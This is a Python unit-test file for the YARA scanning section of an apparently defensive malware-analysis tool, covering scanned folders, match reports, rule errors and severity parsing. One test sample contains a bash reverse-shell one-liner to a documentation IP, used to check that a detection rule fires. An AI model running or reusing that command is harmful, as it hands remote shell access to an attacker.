"""The section yara: which files are looked at, what is told of a match, and the user's own rules."""

from __future__ import annotations

from pathlib import Path

import pytest

from malkoha.processing import runner, yara
from malkoha.processing.base import Earlier
from malkoha.processing.yara import YaraModule, cuckoo, severity
from malkoha.rules import sets
from malkoha.store import Home
from tests.unit.processing.folder import analysis


@pytest.fixture(autouse=True)
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Home:
    monkeypatch.setenv("MALKOHA_HOME", str(tmp_path / "home"))
    return Home(tmp_path / "home")


def test_sample_unpacked_dropped_and_memory(tmp_path: Path, home: Home) -> None:
    (tmp_path / "mine.yar").write_text(
        'rule mine : T1059 { meta: severity = "high" mitre = "T1105" strings: $a = "needle" condition: $a }\n'
        "rule wrong { condition: nothing }\n"
    )
    sets.add(home, tmp_path / "mine.yar")
    facts = analysis(tmp_path, sample=b"a needle, bash -i >& /dev/tcp/203.0.113.7/1 0>&1")
    for folder in (facts.store.unpacked, facts.store.dropped, facts.store.memory):
        folder.mkdir()
        (folder / "x").write_bytes(b"another needle")
    sections, errors = runner.run(facts.store, facts.task, facts.run, [YaraModule])
    assert errors == []
    section = sections["yara"]
    assert section["files"] == 4
    assert [match["on"] for match in section["matches"] if match["rule"] == "mine"] == [
        "sample",
        "unpacked",
        "dropped",
        "memory",
    ]
    mine = next(match for match in section["matches"] if match["rule"] == "mine")
    assert (mine["severity"], mine["attack"], mine["source"]) == (4, ["T1059", "T1105"], "mine/mine.yar")
    assert mine["places"] == [{"name": "$a", "offset": 2, "length": 6, "text": "needle"}]
    assert "reverse_shell_bash" in [match["rule"] for match in section["matches"]]
    assert section["errors"] == ["mine/mine.yar:2: rule wrong: unknown identifier `nothing`"]
    shape = next(entry for entry in cuckoo(section["matches"], "sample", "sample") if entry["name"] == "mine")
    assert (shape["strings"], shape["offsets"]) == (["needle"], {"a": [[2, 0]]})


def test_a_file_that_is_too_large_is_read_in_part_and_said(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(yara, "READ", 10)
    facts = analysis(tmp_path, sample=b"x" * 100)
    assert YaraModule().run(facts, Earlier({}))["skipped"] == ["sample sample: read up to 10 bytes"]


@pytest.mark.parametrize(
    ("meta", "expected"),
    [
        ({}, 2),
        ({"severity": 5}, 5),
        ({"severity": "Critical"}, 5),
        ({"score": 75}, 4),
        ({"level": "low"}, 1),
        ({"score": "x"}, 2),
    ],
)
def test_severity_as_authors_write_it(meta: dict[str, object], expected: int) -> None:
    assert severity(meta) == expected
